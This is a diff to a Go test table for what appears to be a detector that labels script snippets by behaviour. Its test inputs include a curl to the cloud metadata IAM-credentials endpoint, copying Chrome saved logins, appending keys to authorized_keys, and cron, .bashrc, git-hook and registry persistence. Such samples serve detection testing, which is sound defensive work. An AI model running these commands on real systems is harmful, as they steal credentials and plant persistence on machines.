@@ -37,6 +37,7 @@ func TestFacts(t *testing.T) {
 		{"a.ps1", "Get-Content \"$env:USERPROFILE\\.docker\\config.json\"\n", "reads-key ~/.docker/config.json"},
 		{"a.sh", "cat ~/.ssh/id_rsa.pub\ncat ~/.ssh/config\n", ""},
 		{"a.py", "print('keep ~/.ssh/id_rsa private')\n", ""},
+		{"a.sh", "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/x\n", "downloads http://169.254.169.254/latest/meta-data/iam/security-credentials/x, reads-key http://169.254.169.254/latest/meta-data/iam/security-credentials/x"},
 		{"a.sh", "ssh -i ~/.ssh/id_rsa user@host.acme.dev uptime\n", "connects host.acme.dev"},
 		// Browsers, wallets, keychains, and histories.
 		{"a.py", "import shutil\nshutil.copy('/home/u/.config/google-chrome/Default/Login Data', '/tmp/x')\n", "reads-browser /home/u/.config/google-chrome/Default/Login Data"},
@@ -98,11 +99,12 @@ func TestFacts(t *testing.T) {
 		{"a.py", "import socket\nsocket.gethostbyname(f'{data}.x.acme-dns.net')\n", "looks-up ….x.acme-dns.net"},
 		{"a.sh", "dig acme.com\n", ""},
 		// Writes.
-		{"a.sh", "echo 'alias x=y' >> ~/.bashrc\n", "persists ~/.bashrc"},
+		{"a.sh", "echo '(/tmp/x &)' >> ~/.bashrc\n", "persists ~/.bashrc"},
 		{"a.sh", "(crontab -l; echo '* * * * * /tmp/x') | crontab -\n", "persists crontab"},
 		{"a.py", "import os\nwith open(os.path.expanduser('~/.ssh/authorized_keys'), 'a') as f:\n    f.write(k)\n", "persists ~/.ssh/authorized_keys"},
 		{"a.sh", "cat > .git/hooks/pre-commit <<'E'\nx\nE\n", "persists .git/hooks/pre-commit"},
 		{"a.ps1", "Set-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name x -Value y\n", "persists registry Run key"},
+		{"a.sh", "echo 'export PATH=\"$HOME/.acme/bin:$PATH\"' >> ~/.bashrc\n", "writes ~/.bashrc"},
 		{"a.sh", "crontab -l\n", ""},
 		{"a.sh", "cat ~/.bashrc\n", ""},
 		{"a.sh", "echo x >> CLAUDE.md\n", "writes-agent CLAUDE.md"},
